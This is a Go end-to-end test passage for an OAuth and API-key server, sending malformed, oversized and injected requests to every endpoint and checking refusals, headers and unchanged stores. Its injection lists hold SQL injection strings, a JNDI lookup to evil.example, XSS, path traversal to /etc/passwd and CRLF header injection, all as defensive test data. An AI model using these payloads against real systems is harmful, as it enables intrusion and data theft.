package e2e

// The hostile-input suite: malformed, oversized, slow, mis-encoded and
// malicious requests against every public endpoint, on every backend. Every
// answer must be a clear 4xx in the endpoint's own format (RFC 6749 JSON on
// the OAuth endpoints, RFC 9457 problem+json under /api/v1), carry the
// security headers, echo no secret, and leave the stores as they were.

import (
	"bufio"
	"context"
	"database/sql"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"regexp"
	"slices"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	_ "github.com/jackc/pgx/v5/stdlib" // database/sql driver "pgx", to read the rows behind the server's back
	"gopkg.in/yaml.v3"

	"github.com/tollgate/tollgate/config"
	"github.com/tollgate/tollgate/internal/app"
	"github.com/tollgate/tollgate/pkg/admin"
	"github.com/tollgate/tollgate/pkg/apikey"
	"github.com/tollgate/tollgate/pkg/secret"
	"github.com/tollgate/tollgate/pkg/secretscan"
	"github.com/tollgate/tollgate/pkg/server"
	"github.com/tollgate/tollgate/storage"
	"github.com/tollgate/tollgate/storage/memory"
)

// injections are strings that must be data, never code, wherever they go.
var injections = []string{
	`' OR 1=1--`,
	`"; DROP TABLE clients; --`,
	`1; SELECT pg_sleep(10)`,
	`' UNION SELECT * FROM clients--`,
	`{{.}}`,
	`{{ .Secret }}{{template "x"}}`,
	`${jndi:ldap://evil.example/a}`,
	`#{7*7}<%= 7*7 %>`,
	`<script>alert(1)</script>`,
	`%s%n%x%p`,
	`../../../../etc/passwd`,
	"nul\x00byte",
	"line\r\nX-Injected: 1",
	"a long enough value\x00with a NUL",
	"\u202eevil\u2028\ufeff",
	"\xff\xfe invalid utf-8",
	strings.Repeat("A", 5000),
}

// fieldInjections are the injections put into every member of every
// management API body: one of each kind.
var fieldInjections = []string{
	`' OR 1=1--`,
	`{{ .Secret }}{{template "x"}}`,
	`${jndi:ldap://evil.example/a}`,
	`<script>alert(1)</script>`,
	"a long enough value\x00with a NUL",
	"line\r\nX-Injected: 1",
	"\xff\xfe invalid utf-8",
	strings.Repeat("A", 5000),
}

// hostileTimeouts are the listener timeouts of the suite: short, so the
// slow-client tests are quick.
func hostileTimeouts(c *config.Config) {
	c.HTTP.ReadHeaderTimeout = time.Second
	c.HTTP.ReadTimeout = 2 * time.Second
	c.HTTP.MaxHeaderBytes = 16 << 10
}

// hostile is the suite's view of a fixture.
type hostile struct {
	t   *testing.T
	f   *fixture
	srv *httptest.Server // the public handler behind the production server settings
	db  *sql.DB          // the fixture's database, read directly

	scan        *githubKeys // the GitHub secret-scanning keys the fixture trusts
	wrongKey    string      // a well-formed key of no credential
	admin       string      // alice's token: an admin of the root account
	key         string      // an API key of alice
	tok         string      // a client_credentials token of f.cc
	account     storage.Account
	user        storage.User
	client, kid storage.Client              // a client and a key of the suite's own
	federated   storage.FederatedCredential // one of client's federated credentials

	mu      sync.Mutex
	answers int
}

func newHostile(t *testing.T, f *fixture) *hostile {
	t.Helper()
	h := &hostile{t: t, f: f}
	logger := slog.New(slog.NewJSONHandler(f.logs, nil))
	h.srv = httptest.NewUnstartedServer(f.app.Public())
	h.srv.Config = app.NewHTTPServer(f.cfg.HTTP, f.app.Public(), logger)
	h.srv.Start()
	t.Cleanup(h.srv.Close)

	driver := "sqlite"
	if f.cfg.Database.IsPostgres() {
		driver = "pgx"
	}
	db, err := sql.Open(driver, f.cfg.Database.URL)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	h.db = db

	h.admin = f.tokenDSP(f.dsp, "alice")
	f.secrets = append(f.secrets, h.admin)
	_, h.key = f.apiKey(f.alice, "events")
	h.tok = f.tokenCC(f.cc)
	f.secrets = append(f.secrets, h.tok)
	wrong, err := secret.Generate()
	if err != nil {
		t.Fatal(err)
	}
	if h.wrongKey, err = apikey.Format(1<<40, wrong); err != nil {
		t.Fatal(err)
	}
	ctx := t.Context()
	if h.account, err = f.db.CreateAccount(ctx, storage.Account{Name: "hostile", ParentID: f.root.ID, Status: storage.StatusActive}); err != nil {
		t.Fatal(err)
	}
	if h.user, err = f.db.CreateUser(ctx, storage.User{AccountID: h.account.ID, Username: "mallory", PasswordHash: f.passwordHash(),
		Role: storage.RoleMember, Status: storage.StatusActive}); err != nil {
		t.Fatal(err)
	}
	h.client = f.client(storage.Client{AccountID: h.account.ID, Name: "hostile client", GrantTypes: []string{"client_credentials"}, Scopes: []string{"events"}})
	h.kid = f.client(storage.Client{AccountID: h.account.ID, OwnerID: h.user.ID, Kind: storage.KindKey, Name: "hostile key",
		GrantTypes: []string{"client_credentials"}, Scopes: []string{"events"}})
	if h.federated, err = f.db.CreateFederatedCredential(ctx, storage.FederatedCredential{ClientID: h.client.ID, Name: "hostile",
		Issuer: "https://issuer.example.test", Subject: "repo:org/app:ref:refs/heads/main", Audiences: []string{"tollgate"}}); err != nil {
		t.Fatal(err)
	}
	return h
}

// ---------------------------------------------------------------- requests

// send sends a request to the suite's server; body may be nil.
func (h *hostile) send(method, path string, body io.Reader, header ...string) (response, error) {
	req, err := http.NewRequestWithContext(h.t.Context(), method, h.srv.URL+path, body)
	if err != nil {
		return response{}, err
	}
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Add(header[i], header[i+1])
	}
	res, err := h.srv.Client().Do(req)
	if err != nil {
		return response{}, err
	}
	defer res.Body.Close()
	b, err := io.ReadAll(io.LimitReader(res.Body, 1<<20))
	if err != nil {
		return response{}, err
	}
	return response{status: res.StatusCode, header: res.Header, body: b}, nil
}

func (h *hostile) do(method, path, body string, header ...string) response {
	h.t.Helper()
	var r io.Reader
	if body != "" {
		r = strings.NewReader(body)
	}
	res, err := h.send(method, path, r, header...)
	if err != nil {
		h.t.Fatalf("%s %s: %v", method, path, err)
	}
	return res
}

// raw writes request bytes on a new connection and reads one answer.
func (h *hostile) raw(request string) response {
	h.t.Helper()
	conn, err := net.DialTimeout("tcp", h.srv.Listener.Addr().String(), 5*time.Second)
	if err != nil {
		h.t.Fatal(err)
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(10 * time.Second))
	if _, err := io.WriteString(conn, request); err != nil {
		h.t.Fatal(err)
	}
	res, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		h.t.Fatalf("raw %q: %v", firstLine(request), err)
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	return response{status: res.StatusCode, header: res.Header, body: b}
}

func firstLine(s string) string { l, _, _ := strings.Cut(s, "\r\n"); return l }

// ---------------------------------------------------------------- answers

// format is the error format an endpoint answers in.
type format int

const (
	formatOAuth   format = iota // RFC 6749 §5.2 JSON
	formatProblem               // RFC 9457 problem+json
	formatCheck                 // the check endpoint's JSON
)

func formatOf(path string) format {
	p, _, _ := strings.Cut(path, "?")
	switch {
	case strings.HasPrefix(p, admin.Prefix+"/"):
		return formatProblem
	case p == "/auth/check" || strings.HasPrefix(p, "/auth/check/"):
		return formatCheck
	case p == secretscan.Path:
		return formatProblem
	}
	return formatOAuth
}

// harmless tells a 2xx that is the protocol's answer to bad input and
// changes nothing: an inactive (or active) introspection, a revocation of
// an unknown token, the metadata document.
func harmless(method, path string, res response) bool {
	p, _, _ := strings.Cut(path, "?")
	switch {
	case p == server.PathIntrospect && res.status == http.StatusOK:
		return true
	case p == server.PathRevoke && res.status == http.StatusOK && len(res.body) == 0:
		return true
	case p == server.PathMetadata && (method == http.MethodGet || method == http.MethodHead) && res.status == http.StatusOK:
		return true
	}
	return false
}

// refused checks that res is a clear refusal of method path, in the
// endpoint's format, with the security headers and no secret in it.
func (h *hostile) refused(what, method, path string, res response) {
	h.t.Helper()
	h.mu.Lock()
	h.answers++
	h.mu.Unlock()
	where := fmt.Sprintf("%s: %s %.80q", what, method, path)
	if res.status >= 500 {
		h.t.Errorf("%s: status %d, want a 4xx (body %.300s)", where, res.status, res.body)
		return
	}
	if res.status < 400 && !harmless(method, path, res) {
		h.t.Errorf("%s: status %d, want a 4xx (body %.300s)", where, res.status, res.body)
		return
	}
	h.securityHeaders(where, res)
	h.noSecrets(where, res.body)
	if len(res.body) > 16<<10 {
		h.t.Errorf("%s: %d-byte answer: input is echoed back", where, len(res.body))
	}
	if res.status == http.StatusMethodNotAllowed {
		allow := res.header.Get("Allow")
		if allow == "" || slices.Contains(strings.Split(allow, ", "), method) {
			h.t.Errorf("%s: 405 with Allow %q", where, allow)
		}
	}
	if res.status < 400 || method == http.MethodHead {
		return
	}
	ct := res.header.Get("Content-Type")
	var body map[string]any
	if err := json.Unmarshal(res.body, &body); err != nil {
		h.t.Errorf("%s: status %d, body %.200q is not a JSON object", where, res.status, res.body)
		return
	}
	switch formatOf(path) {
	case formatProblem:
		if ct != "application/problem+json" {
			h.t.Errorf("%s: Content-Type %q, want application/problem+json", where, ct)
		}
		if st, _ := body["status"].(float64); int(st) != res.status || body["title"] == "" {
			h.t.Errorf("%s: problem %s does not match status %d", where, res.body, res.status)
		}
	default:
		if !strings.HasPrefix(ct, "application/json") {
			h.t.Errorf("%s: Content-Type %q, want application/json", where, ct)
		}
		if code, _ := body["error"].(string); code == "" {
			h.t.Errorf("%s: body %s has no error code", where, res.body)
		}
		if formatOf(path) == formatOAuth && res.header.Get("Cache-Control") != "no-store" {
			h.t.Errorf("%s: Cache-Control %q, want no-store", where, res.header.Get("Cache-Control"))
		}
	}
}

// refusedByNetHTTP checks an answer net/http gives before any handler
// runs (431, or 400 for a request it cannot parse): plain text, no secret.
func (h *hostile) refusedByNetHTTP(what string, res response, status int) {
	h.t.Helper()
	if res.status != status {
		h.t.Errorf("%s: status %d, want %d (body %.200s)", what, res.status, status, res.body)
	}
	h.noSecrets(what, res.body)
}

func (h *hostile) securityHeaders(where string, res response) {
	h.t.Helper()
	for name, want := range map[string]string{
		"X-Content-Type-Options":  "nosniff",
		"Referrer-Policy":         "no-referrer",
		"X-Frame-Options":         "DENY",
		"Content-Security-Policy": "default-src 'none'; frame-ancestors 'none'",
	} {
		if got := res.header.Get(name); got != want {
			h.t.Errorf("%s: %s = %q, want %q", where, name, got, want)
		}
	}
	if got := res.header.Get("Strict-Transport-Security"); got != "" {
		h.t.Errorf("%s: Strict-Transport-Security %q over plain HTTP", where, got)
	}
}

func (h *hostile) noSecrets(where string, body []byte) {
	h.t.Helper()
	s := string(body)
	for _, sec := range append(slices.Clone(h.f.secrets), testPassword, h.key, h.admin, h.tok) {
		if sec != "" && strings.Contains(s, sec) {
			h.t.Errorf("%s: the answer carries a secret, token or key", where)
		}
	}
	for _, bad := range []string{"tgh1$", "$argon2", "password_hash", "secret_hash", "goroutine ", "runtime/", ".go:"} {
		if strings.Contains(s, bad) {
			h.t.Errorf("%s: the answer carries %q: %.300s", where, bad, s)
		}
	}
}

// ---------------------------------------------------------------- state

// snapshot is everything a request could have stored.
type snapshot struct {
	rows   map[string][]string // table: every row, in id order
	audit  []auditRow
	tokens []string // token store keys (Redis) or count (in process)
	redis  bool     // whether the Redis keys were read
}

type auditRow struct {
	row     string
	outcome string
}

// snapshot reads the stores in full; the Redis keys only withRedis (a scan
// of the whole server).
func (h *hostile) snapshot(withRedis bool) snapshot {
	h.t.Helper()
	ctx := h.t.Context()
	s := snapshot{rows: map[string][]string{}}
	for _, table := range []string{"accounts", "users", "clients"} {
		s.rows[table] = h.rows(ctx, "SELECT * FROM "+table+" ORDER BY id")
	}
	for _, r := range h.rows(ctx, "SELECT outcome, a.* FROM audit_events a ORDER BY id") {
		outcome, _, _ := strings.Cut(r, "\x1f")
		s.audit = append(s.audit, auditRow{row: r, outcome: outcome})
	}
	switch store := h.f.tokens.(type) {
	case *memory.Store:
		s.tokens = []string{strconv.Itoa(store.Len())}
	default:
		if h.f.redis == nil {
			h.t.Fatalf("no way to count the tokens of %T", store)
		}
		if !withRedis {
			break
		}
		s.redis = true
		// SCAN, not KEYS: the server may hold many other keys.
		var cursor uint64
		for {
			keys, next, err := h.f.redis.Scan(ctx, cursor, h.f.redisPrefix+"*", 10000).Result()
			if err != nil {
				h.t.Fatal(err)
			}
			for _, k := range keys {
				// Rate counters, quota counters and usage counts are
				// what a check request is for, and failure counters
				// what a refused credential is for.
				if !slices.ContainsFunc([]string{"rl:", "bf:", "r:", "q:", "u:"}, func(p string) bool { return strings.HasPrefix(k, h.f.redisPrefix+p) }) {
					s.tokens = append(s.tokens, k)
				}
			}
			if cursor = next; cursor == 0 {
				break
			}
		}
		sort.Strings(s.tokens)
	}
	return s
}

func (h *hostile) rows(ctx context.Context, query string) []string {
	h.t.Helper()
	rs, err := h.db.QueryContext(ctx, query)
	if err != nil {
		h.t.Fatalf("%s: %v", query, err)
	}
	defer rs.Close()
	cols, err := rs.Columns()
	if err != nil {
		h.t.Fatal(err)
	}
	var out []string
	for rs.Next() {
		vals := make([]any, len(cols))
		ptrs := make([]any, len(cols))
		for i := range vals {
			ptrs[i] = &vals[i]
		}
		if err := rs.Scan(ptrs...); err != nil {
			h.t.Fatal(err)
		}
		parts := make([]string, len(vals))
		for i, v := range vals {
			if b, ok := v.([]byte); ok {
				v = string(b)
			}
			parts[i] = fmt.Sprint(v)
		}
		out = append(out, strings.Join(parts, "\x1f"))
	}
	if err := rs.Err(); err != nil {
		h.t.Fatal(err)
	}
	return out
}

// fingerprint is a cheap summary of the records, for a check after every
// request: the rows and versions of accounts, users and clients (every
// write bumps a version), the successful audit events, and the in-process
// token count.
func (h *hostile) fingerprint() string {
	h.t.Helper()
	var parts []string
	for _, table := range []string{"accounts", "users", "clients"} {
		parts = append(parts, "SELECT count(*) FROM "+table, "SELECT coalesce(sum(version), 0) FROM "+table)
	}
	parts = append(parts, "SELECT count(*) FROM audit_events WHERE outcome <> 'failure'")
	q := "SELECT (" + strings.Join(parts, "), (") + ")"
	fp := strings.Join(h.rows(h.t.Context(), q), ";")
	if store, ok := h.f.tokens.(*memory.Store); ok {
		fp += ";tokens " + strconv.Itoa(store.Len())
	}
	return fp
}

// unchanged fails the test when anything but audit events of refusals was
// stored since before.
func (h *hostile) unchanged(what string, before snapshot) {
	h.t.Helper()
	after := h.snapshot(before.redis)
	for table, rows := range before.rows {
		if !slices.Equal(rows, after.rows[table]) {
			h.t.Errorf("%s: table %s changed:\nbefore %q\nafter  %q", what, table, rows, after.rows[table])
		}
	}
	if len(after.audit) < len(before.audit) || !slices.Equal(before.audit, after.audit[:len(before.audit)]) {
		h.t.Errorf("%s: audit events changed", what)
	} else {
		for _, e := range after.audit[len(before.audit):] {
			if e.outcome != "failure" {
				h.t.Errorf("%s: a successful change was audited: %q", what, e.row)
			}
		}
	}
	if !slices.Equal(before.tokens, after.tokens) {
		h.t.Errorf("%s: the token store changed: %d -> %d entries (%v -> %v)", what, len(before.tokens), len(after.tokens), before.tokens, after.tokens)
	}
}

// ---------------------------------------------------------------- routes

// route is one method and path of the public listener, with a concrete
// path to send.
type route struct {
	method   string
	template string
	path     string
}

// routes lists every public route: the OAuth endpoints, the check endpoint
// and every management API route the API itself reports, with the ids of
// the suite's own records in the paths.
func (h *hostile) routes() []route {
	out := []route{
		{http.MethodPost, server.PathToken, server.PathToken},
		{http.MethodPost, server.PathIntrospect, server.PathIntrospect},
		{http.MethodPost, server.PathRevoke, server.PathRevoke},
		{http.MethodGet, server.PathMetadata, server.PathMetadata},
		{http.MethodPost, server.PathKeySession, server.PathKeySession},
		{http.MethodPost, server.PathKeyRevoke, server.PathKeyRevoke},
		{http.MethodPost, secretscan.Path, secretscan.Path},
		{http.MethodGet, "/auth/check", "/auth/check"},
		{http.MethodPost, "/auth/check/...", "/auth/check/v1/events/42"},
	}
	ids := map[string]int64{"accounts": h.account.ID, "users": h.user.ID, "clients": h.client.ID, "keys": h.kid.ID}
	idPattern := regexp.MustCompile(`\{id(:[^}]*)?\}`)
	fidPattern := regexp.MustCompile(`\{fid(:[^}]*)?\}`)
	for _, r := range h.f.app.API().Routes() {
		parts := strings.Split(strings.TrimPrefix(r.Path, admin.Prefix+"/"), "/")
		path := idPattern.ReplaceAllString(r.Path, strconv.FormatInt(ids[parts[0]], 10))
		path = fidPattern.ReplaceAllString(path, strconv.FormatInt(h.federated.ID, 10))
		if strings.Contains(path, "{") {
			h.t.Fatalf("route %s %s: no id to put in its path", r.Method, r.Path)
		}
		out = append(out, route{r.Method, fidPattern.ReplaceAllString(idPattern.ReplaceAllString(r.Path, "{id}"), "{fid}"), path})
	}
	return out
}

// isAPI reports whether r is a management API route.
func (r route) isAPI() bool { return strings.HasPrefix(r.path, admin.Prefix+"/") }

// hasBody reports whether r reads a request body.
func (r route) hasBody() bool {
	return r.method == http.MethodPost || r.method == http.MethodPatch || r.method == http.MethodPut
}

// auth is the Authorization header that gets r past authentication, so
// the hostile part of the request is what is refused.
func (h *hostile) auth(r route) []string {
	switch {
	case r.isAPI():
		return []string{"Authorization", "Bearer " + h.admin}
	case r.path == server.PathIntrospect || r.path == server.PathRevoke:
		return []string{"Authorization", basic(h.f.rs.ID, h.f.secretOf[h.f.rs.ID])}
	case r.path == server.PathKeySession:
		return []string{"X-API-Key", h.key}
	case r.path == server.PathKeyRevoke:
		// A key that is not one: a right one would switch itself off.
		return []string{"X-API-Key", h.wrongKey}
	case r.path == secretscan.Path:
		// Well-formed, of a known key, over another body.
		return sign(h.t, h.scan.key, h.scan.keyID, []byte(`[{"token":"x"}]`))
	case r.path == server.PathToken:
		return []string{"Authorization", basic(h.f.cc.ID, h.f.secretOf[h.f.cc.ID])}
	}
	return []string{"Authorization", "Bearer " + h.tok}
}

// openAPIBodies maps "METHOD /path" of docs/openapi.yaml to the names and
// types of its request body's members.
func openAPIBodies(t *testing.T) map[string]map[string]string {
	t.Helper()
	raw, err := os.ReadFile("../docs/openapi.yaml")
	if err != nil {
		t.Fatal(err)
	}
	type schema struct {
		Ref        string `yaml:"$ref"`
		Type       string `yaml:"type"`
		Properties map[string]struct {
			Ref  string `yaml:"$ref"`
			Type string `yaml:"type"`
		} `yaml:"properties"`
	}
	var doc struct {
		Paths map[string]map[string]yaml.Node `yaml:"paths"`
		Comps struct {
			Schemas map[string]schema `yaml:"schemas"`
		} `yaml:"components"`
	}
	if err := yaml.Unmarshal(raw, &doc); err != nil {
		t.Fatal(err)
	}
	out := map[string]map[string]string{}
	for path, item := range doc.Paths {
		for method, node := range item {
			var op struct {
				RequestBody struct {
					Content map[string]struct {
						Schema schema `yaml:"schema"`
					} `yaml:"content"`
				} `yaml:"requestBody"`
			}
			if method == "parameters" || node.Decode(&op) != nil {
				continue
			}
			body, ok := op.RequestBody.Content["application/json"]
			if !ok {
				continue
			}
			s := body.Schema
			if s.Ref != "" {
				s = doc.Comps.Schemas[strings.TrimPrefix(s.Ref, "#/components/schemas/")]
			}
			fields := map[string]string{}
			for name, p := range s.Properties {
				typ := p.Type
				if p.Ref != "" {
					typ = doc.Comps.Schemas[strings.TrimPrefix(p.Ref, "#/components/schemas/")].Type
				}
				if typ == "" {
					typ = "string"
				}
				fields[name] = typ
			}
			out[strings.ToUpper(method)+" "+path] = fields
		}
	}
	return out
}

// ---------------------------------------------------------------- the suite

func TestHostileInput(t *testing.T) {
	scan := newGitHubKeys(t)
	forEachBackend(t, func(t *testing.T, f *fixture) {
		h := newHostile(t, f)
		h.scan = scan
		routes := h.routes()
		before := h.snapshot(true)

		t.Run("every route is exercised", func(t *testing.T) { h.coverage(t, routes) })
		t.Run("wrong methods", func(t *testing.T) { h.wrongMethods(routes) })
		t.Run("malformed bodies", func(t *testing.T) { h.malformedBodies(routes) })
		t.Run("oversized bodies", func(t *testing.T) { h.oversizedBodies(routes) })
		t.Run("wrong content types", func(t *testing.T) { h.wrongContentTypes(routes) })
		t.Run("duplicate parameters", func(t *testing.T) { h.duplicates(routes) })
		t.Run("injections in OAuth parameters", func(t *testing.T) { h.oauthInjections() })
		t.Run("injections in headers", func(t *testing.T) { h.headerInjections(routes) })
		t.Run("hostile query strings", func(t *testing.T) { h.queries(routes) })
		t.Run("path traversal", func(t *testing.T) { h.traversal() })
		t.Run("unknown paths", func(t *testing.T) { h.unknownPaths() })
		t.Run("huge headers", func(t *testing.T) { h.hugeHeaders(routes) })
		t.Run("unparseable requests", func(t *testing.T) { h.unparseable() })
		t.Run("slow clients", func(t *testing.T) { h.slowClients() })
		t.Run("absurd quotas, budgets and allowlists", func(t *testing.T) { h.absurdLimits() })
		h.unchanged("after the refused requests", before)

		// Values that pass validation are stored as sent, whatever they
		// look like; the others change nothing.
		t.Run("injections in API fields", func(t *testing.T) { h.apiInjections(t, routes) })

		// The server still works.
		if res := h.do(http.MethodPost, server.PathToken, form("grant_type", "client_credentials"), "Content-Type", formCT,
			"Authorization", basic(f.cc.ID, f.secretOf[f.cc.ID])); res.status != http.StatusOK {
			t.Errorf("a good token request after the suite: status %d, body %s", res.status, res.body)
		}
		t.Logf("%d hostile answers checked", h.answers)
	}, hostileTimeouts, scan.config)
}

// coverage checks that the suite knows every route the management API and
// its OpenAPI document have, and a body for every documented body.
func (h *hostile) coverage(t *testing.T, routes []route) {
	bodies := openAPIBodies(t)
	for key := range bodies {
		method, path, _ := strings.Cut(key, " ")
		if !slices.ContainsFunc(routes, func(r route) bool { return r.method == method && r.template == path }) {
			t.Errorf("docs/openapi.yaml documents %s, which the suite does not exercise", key)
		}
	}
	n := 0
	for _, r := range routes {
		if r.isAPI() {
			n++
		}
	}
	if n < 20 {
		t.Errorf("only %d management API routes found", n)
	}
}

var allMethods = []string{http.MethodGet, http.MethodHead, http.MethodPost, http.MethodPut, http.MethodPatch,
	http.MethodDelete, http.MethodOptions, http.MethodTrace, "PROPFIND", "FOO"}

func (h *hostile) wrongMethods(routes []route) {
	for _, r := range routes {
		if formatOf(r.path) == formatCheck {
			continue // the check endpoint answers any method: gateways forward the API request's own
		}
		for _, m := range allMethods {
			served := slices.ContainsFunc(routes, func(o route) bool { return o.path == r.path && o.method == m })
			if served || m == http.MethodHead && r.method == http.MethodGet && !r.isAPI() {
				continue
			}
			// Authenticated: the method alone must be refused.
			res := h.do(m, r.path, "", h.auth(r)...)
			if res.status != http.StatusMethodNotAllowed {
				h.t.Errorf("%s %s: status %d, want 405 (body %.200s)", m, r.path, res.status, res.body)
			}
			h.refused("wrong method", m, r.path, res)
		}
	}
}

// bodyRoutes are the routes that read a body, authenticated where the
// body is read only after authentication.
func bodyRoutes(routes []route) []route {
	var out []route
	for _, r := range routes {
		if r.hasBody() && formatOf(r.path) != formatCheck {
			out = append(out, r)
		}
	}
	return out
}

func (h *hostile) malformedBodies(routes []route) {
	deep := strings.Repeat("[", 100000) + strings.Repeat("]", 100000)
	deepObject := strings.Repeat(`{"a":`, 20000) + "1" + strings.Repeat("}", 20000)
	bodies := []struct{ name, ct, body string }{
		{"truncated JSON", "application/json", `{"name":"x"`},
		{"JSON array", "application/json", `[]`},
		{"JSON string", "application/json", `"x"`},
		{"JSON null", "application/json", `null`},
		{"JSON number", "application/json", `1e999`},
		{"two objects", "application/json", `{}{}`},
		{"trailing garbage", "application/json", `{"name":"x"} garbage`},
		{"deep arrays", "application/json", deep},
		{"deep objects", "application/json", deepObject},
		{"invalid UTF-8 JSON", "application/json", "{\"name\":\"\xff\xfe\"}"},
		{"NUL in JSON", "application/json", "{\"name\":\"a\x00b\"}"},
		{"wrong types", "application/json", `{"name":1,"grant_type":[1],"password":{"a":1},"client_id":-1,"lifetime":1.5,"token":true}`},
		{"empty JSON", "application/json", ` `},
		{"huge number", "application/json", `{"client_id":123456789012345678901234567890,"lifetime":99999999999999999999,"parent_id":1e400}`},
		{"bad form encoding", formCT, "grant_type=%zz&token=%"},
		{"invalid UTF-8 form", formCT, "grant_type=\xff&token=%ff%fe"},
		{"NUL in form", formCT, "grant_type=client_credentials%00&token=a%00b"},
		{"too many form parameters", formCT, strings.Repeat("a=1&", 5) + manyParams(200)},
		{"binary", "application/octet-stream", "\x00\x01\x02\xff"},
	}
	for _, r := range bodyRoutes(routes) {
		for _, b := range bodies {
			res := h.do(r.method, r.path, b.body, append([]string{"Content-Type", b.ct}, h.auth(r)...)...)
			h.refused("malformed body "+b.name, r.method, r.path, res)
		}
		// Unauthenticated, the same bodies never get further.
		res := h.do(r.method, r.path, `{"name":"x"}`, "Content-Type", "application/json")
		h.refused("unauthenticated", r.method, r.path, res)
	}
}

func manyParams(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "p%d=%d&", i, i)
	}
	return b.String()
}

func (h *hostile) oversizedBodies(routes []route) {
	for _, r := range bodyRoutes(routes) {
		limit := int(h.f.cfg.HTTP.MaxBodyBytes)
		if r.path == secretscan.Path {
			limit = secretscan.MaxBodyBytes // GitHub's batches have a cap of their own
		}
		for _, b := range []struct{ ct, body string }{
			{"application/json", `{"name":"` + strings.Repeat("x", limit) + `"}`},
			{formCT, "grant_type=client_credentials&scope=" + strings.Repeat("x", limit)},
		} {
			res := h.do(r.method, r.path, b.body, append([]string{"Content-Type", b.ct}, h.auth(r)...)...)
			// A body of a type the endpoint does not take is refused for
			// its type before its size.
			wrongType := (r.isAPI() || r.path == secretscan.Path) && b.ct == formCT && res.status == http.StatusUnsupportedMediaType ||
				(r.path == server.PathIntrospect || r.path == server.PathRevoke) && b.ct != formCT && res.status == http.StatusBadRequest
			if res.status != http.StatusRequestEntityTooLarge && !wrongType {
				h.t.Errorf("%s %s with a %d-byte %s body: status %d, want 413", r.method, r.path, len(b.body), b.ct, res.status)
			}
			h.refused("oversized body", r.method, r.path, res)
		}
		// Far larger than the cap, sent without a length: the server
		// stops reading at the cap. The client may see the connection
		// closed while it is still sending; an answer, if any, is 413.
		huge := io.MultiReader(strings.NewReader(`{"name":"`), &repeatReader{b: 'x', n: 8 << 20})
		res, err := h.send(r.method, r.path, huge, append([]string{"Content-Type", "application/json"}, h.auth(r)...)...)
		if err == nil {
			h.refused("8 MiB chunked body", r.method, r.path, res)
		}
	}
}

// repeatReader reads n copies of b.
type repeatReader struct {
	b byte
	n int
}

func (r *repeatReader) Read(p []byte) (int, error) {
	if r.n == 0 {
		return 0, io.EOF
	}
	n := min(len(p), r.n)
	for i := range n {
		p[i] = r.b
	}
	r.n -= n
	return n, nil
}

func (h *hostile) wrongContentTypes(routes []route) {
	types := []string{"", "text/plain", "text/html", "application/xml", "multipart/form-data; boundary=x",
		"application/json; charset=latin1", "application/x-www-form-urlencoded; charset=utf-16", ";;;", "application/json\x00"}
	for _, r := range bodyRoutes(routes) {
		for _, ct := range types {
			header := h.auth(r)
			if ct != "" && !strings.Contains(ct, "\x00") {
				header = append(header, "Content-Type", ct)
			}
			body := `{"name":"x","grant_type":"client_credentials","token":"x","password":"` + testPassword + `"}`
			if strings.HasPrefix(ct, "application/x-www-form") {
				body = "grant_type=client_credentials&token=x"
			}
			res := h.do(r.method, r.path, body, header...)
			want := http.StatusBadRequest // RFC 6749 §5.2: invalid_request
			if r.isAPI() || r.path == secretscan.Path {
				want = http.StatusUnsupportedMediaType
			}
			jsonLatin1 := strings.HasPrefix(ct, "application/json; charset=latin1")
			if res.status != want && !((r.isAPI() || r.path == secretscan.Path) && jsonLatin1 && res.status < 500 && res.status >= 400) {
				h.t.Errorf("%s %s with Content-Type %q: status %d, want %d (body %.200s)", r.method, r.path, ct, res.status, want, res.body)
			}
			h.refused("content type "+strconv.Quote(ct), r.method, r.path, res)
		}
	}
}

func (h *hostile) duplicates(routes []route) {
	f := h.f
	cc := basic(f.cc.ID, f.secretOf[f.cc.ID])
	rs := basic(f.rs.ID, f.secretOf[f.rs.ID])
	for _, c := range []struct {
		name, path, ct, body string
		header               []string
	}{
		{"form grant_type twice", server.PathToken, formCT, "grant_type=client_credentials&grant_type=client_credentials", []string{"Authorization", cc}},
		{"form scope twice", server.PathToken, formCT, "grant_type=client_credentials&scope=read&scope=write", []string{"Authorization", cc}},
		{"JSON member twice", server.PathToken, "application/json", `{"grant_type":"client_credentials","grant_type":"client_credentials"}`, []string{"Authorization", cc}},
		{"form token twice", server.PathIntrospect, formCT, "token=a&token=" + h.tok, []string{"Authorization", rs}},
		{"revoke token twice", server.PathRevoke, formCT, "token=a&token=" + h.tok, []string{"Authorization", rs}},
		{"Authorization twice", server.PathToken, formCT, "grant_type=client_credentials", []string{"Authorization", cc, "Authorization", cc}},
		{"Basic and body secret", server.PathToken, formCT, form("grant_type", "client_credentials", "client_secret", f.secretOf[f.cc.ID]), []string{"Authorization", cc}},
		{"Content-Type twice", server.PathToken, formCT, "grant_type=client_credentials", []string{"Authorization", cc, "Content-Type", "application/json"}},
		{"X-API-Key twice", server.PathKeySession, "", "", []string{"X-API-Key", h.key, "X-API-Key", h.key}},
		{"X-API-Key and Basic", server.PathKeySession, "", "", []string{"X-API-Key", h.key, "Authorization", basicRaw("x", h.key)}},
		{"revoke: X-API-Key twice", server.PathKeyRevoke, "", "", []string{"X-API-Key", h.key, "X-API-Key", h.key}},
		{"revoke: X-API-Key and Basic", server.PathKeyRevoke, "", "", []string{"X-API-Key", h.key, "Authorization", basicRaw("x", h.key)}},
		{"revoke: X-API-Key and client_secret", server.PathKeyRevoke, formCT, form("client_secret", h.key), []string{"X-API-Key", h.key}},
		{"scanning: signature twice", secretscan.Path, "application/json", `[{"token":"x"}]`,
			append(sign(h.t, h.scan.key, h.scan.keyID, []byte(`[{"token":"x"}]`)), sign(h.t, h.scan.key, h.scan.keyID, []byte(`[{"token":"x"}]`))[2:]...)},
		{"scanning: key id twice", secretscan.Path, "application/json", `[{"token":"x"}]`,
			append(sign(h.t, h.scan.key, h.scan.keyID, []byte(`[{"token":"x"}]`)), secretscan.HeaderKeyID, h.scan.keyID)},
	} {
		header := c.header
		if c.ct != "" {
			header = append([]string{"Content-Type", c.ct}, header...)
		}
		res := h.do(http.MethodPost, c.path, c.body, header...)
